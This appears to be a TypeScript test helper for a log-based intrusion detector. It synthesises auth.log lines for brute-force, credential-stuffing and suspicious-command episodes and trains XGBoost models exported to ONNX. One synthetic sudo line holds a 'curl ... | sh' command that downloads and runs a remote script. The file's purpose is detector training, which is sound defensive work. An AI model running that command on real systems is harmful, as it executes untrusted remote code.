/**
 * A small but real model bundle for agent tests: rows come from the serving FeatureEngine fed with real-format
 * auth.log lines through the production parser; the detector and typer are trained with XGBoost (WASM) and
 * exported to ONNX exactly as `vigil models train` does. Built once per feature-schema hash and cached in tmpdir.
 */
import { existsSync, mkdirSync, renameSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { FeatureEngine, type WindowRow } from '../../../models/src/features/engine.ts';
import { treeEnsembleToOnnx, writeBundle } from '../../../models/src/onnx/index.ts';
import { createParser } from '../../../models/src/parse/registry.ts';
import { trainXGBoost } from '../../../models/src/train/xgboost/index.ts';
import { acceptedKey, cronLine, failedPassword, sudoLine } from './syslog-lines.ts';

export const TEST_BUNDLE_VERSION = '0.0.1-test';
/** Three classes: a 2-class multi:softprob typer exported to ONNX scores every row the same (see the report). */
const LABELS = ['credential_stuffing', 'ssh_brute_force', 'suspicious_command'];
const T0 = Date.UTC(2025, 2, 3);
const WINDOW = 300_000;

/** Deterministic PRNG so the bundle is the same on every machine. */
function rng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Labelled {
  rows: WindowRow[];
  y: number[];
  type: number[];
}

/** Two days of one host's auth.log with brute-force and credential-stuffing episodes. */
export function dataset(): Labelled {
  const rand = rng(7);
  const host = 'web-1';
  const lines: { ts: number; line: string }[] = [];
  const brute = new Map<string, Set<number>>();
  const stuffing = new Set<number>();
  const suspicious = new Set<number>();
  const users = ['alice', 'bob', 'carol', 'deploy', 'ubuntu'];
  for (let w = 0; w < 576; w++) {
    const base = T0 + w * WINDOW;
    const at = () => base + Math.floor(rand() * WINDOW);
    for (let i = 0; i < 1 + Math.floor(rand() * 4); i++) {
      const u = users[Math.floor(rand() * users.length)];
      lines.push({ ts: at(), line: acceptedKey(at(), host, u, `10.0.1.${10 + Math.floor(rand() * 5)}`, 40000 + w) });
      if (rand() < 0.5) lines.push({ ts: at(), line: sudoLine(at(), host, u, '/usr/bin/systemctl status nginx') });
    }
    if (rand() < 0.3) {
      const ip = `192.0.2.${Math.floor(rand() * 250)}`;
      for (let k = 0; k < 1 + Math.floor(rand() * 3); k++)
        lines.push({
          ts: at(),
          line: failedPassword(at(), host, rand() < 0.5 ? users[k % 5] : 'oracle', ip, 50000 + k, rand() < 0.3),
        });
    }
    if (rand() < 0.5) lines.push({ ts: at(), line: cronLine(at(), host, 'root', 'run-parts /etc/cron.hourly') });
    if (w % 9 === 4) {
      const ip = `203.0.113.${w % 250}`;
      const n = 15 + Math.floor(rand() * 300);
      const style = Math.floor(rand() * 3); // root only, invalid users only, or mixed
      const span = WINDOW * (0.1 + 0.9 * rand());
      for (let k = 0; k < n; k++) {
        const ts = base + Math.floor((k * span) / n);
        const invalid = style === 1 || (style === 2 && k % 2 === 0);
        lines.push({ ts, line: failedPassword(ts, host, invalid ? `admin${k % 9}` : 'root', ip, 40000 + k, invalid) });
      }
      brute.set(ip, (brute.get(ip) ?? new Set()).add(base));
    }
    if (w % 31 === 17) {
      suspicious.add(base);
      for (let k = 0; k < 4 + Math.floor(rand() * 6); k++)
        lines.push({
          ts: at(),
          line: sudoLine(at(), host, 'deploy', `/bin/sh -c curl -s http://198.51.100.9/x${k}.sh | sh`),
        });
    }
    if (w % 23 === 11) {
      stuffing.add(base);
      for (let k = 0; k < 60; k++) {
        const ts = base + Math.floor(rand() * WINDOW);
        lines.push({ ts, line: failedPassword(ts, host, `user${k}`, `198.51.100.${k}`, 41000 + k, true) });
      }
    }
  }
  lines.sort((a, b) => a.ts - b.ts);
  const parser = createParser('syslog', { syslogSource: 'ec2.auth', year: 2025 });
  const engine = new FeatureEngine({ maxEntities: 5000 });
  const rows: WindowRow[] = [];
  let nextSnap = T0 + 60_000;
  for (const [i, l] of lines.entries()) {
    const r = parser.parse(l.line, { file: 'auth.log', line: i + 1 });
    if (!r.ok) throw new Error(`test bundle: line ${i + 1} did not parse: ${JSON.stringify(r)}`);
    if (r.event.ts >= nextSnap) {
      engine.snapshot(undefined, rows); // provisional rows too: the agent decides on open windows
      nextSnap += 120_000;
    }
    engine.push(r.event, rows);
  }
  engine.flush(rows);
  const label = (row: WindowRow) => {
    if (row.entity.kind === 'ip' && brute.get(row.entity.id)?.has(row.start)) return 2;
    if (row.entity.kind === 'host' && stuffing.has(row.start)) return 1;
    if (row.entity.kind === 'host' && suspicious.has(row.start)) return 3;
    return 0;
  };
  const y = rows.map((r) => (label(r) > 0 ? 1 : 0));
  const type = rows.map((r) => label(r) - 1);
  return { rows, y, type };
}

function matrix(rows: WindowRow[], idx: number[]): Float32Array {
  const F = rows[0].features.length;
  const X = new Float32Array(idx.length * F);
  for (const [i, r] of idx.entries()) X.set(rows[r].features, i * F);
  return X;
}

async function build(dir: string): Promise<void> {
  const { rows, y, type } = dataset();
  const names = new FeatureEngine().schema.names;
  const schema = new FeatureEngine().schema;
  const all = rows.map((_, i) => i);
  const detector = await trainXGBoost({
    X: matrix(rows, all),
    y,
    nFeatures: names.length,
    params: { objective: 'binary:logistic', rounds: 30, max_depth: 4, eta: 0.3, seed: 1 },
  });
  const pos = all.filter((i) => y[i] === 1);
  const typer = await trainXGBoost({
    X: matrix(rows, pos),
    y: pos.map((i) => type[i]),
    nFeatures: names.length,
    params: { objective: 'multi:softprob', num_class: LABELS.length, rounds: 10, max_depth: 3, seed: 1 },
  });
  const io = { inputName: 'input', inputDims: [names.length], outputName: 'probabilities' };
  await writeBundle(dir, {
    bundleVersion: TEST_BUNDLE_VERSION,
    createdAt: '2025-03-05T00:00:00Z',
    featureSchema: { version: schema.version, hash: schema.hash, names },
    models: [
      {
        name: 'detector',
        kind: 'xgboost',
        format: 'onnx',
        file: 'detector.onnx',
        bytes: treeEnsembleToOnnx(detector.ensemble, { featureNames: names }),
        ...io,
        outputColumn: 1,
        threshold: 0.5,
        explainer: { format: 'xgboost-binary', file: 'detector.xgb', bytes: detector.modelBytes },
      },
      {
        name: 'typer',
        kind: 'xgboost',
        format: 'onnx',
        file: 'typer.onnx',
        bytes: treeEnsembleToOnnx(typer.ensemble, { featureNames: names }),
        ...io,
        labels: LABELS,
      },
    ],
    thresholds: { detector: 0.5 },
    labelSet: LABELS,
    trainingSeed: 1,
  });
}

/** The cached test bundle's directory (built on first use, ~1-2 s). */
export async function testBundle(): Promise<string> {
  const hash = new FeatureEngine().schema.hash.slice(0, 16);
  const dir = path.join(tmpdir(), `vigil-agent-test-bundle-${hash}`);
  if (existsSync(path.join(dir, 'manifest.json'))) return dir;
  const tmp = `${dir}.tmp-${process.pid}-${Date.now()}`;
  mkdirSync(tmp, { recursive: true });
  try {
    await build(tmp);
    try {
      renameSync(tmp, dir);
    } catch (err) {
      if (!existsSync(path.join(dir, 'manifest.json'))) throw err; // another worker won the race: use theirs
    }
  } finally {
    rmSync(tmp, { recursive: true, force: true });
  }
  return dir;
}
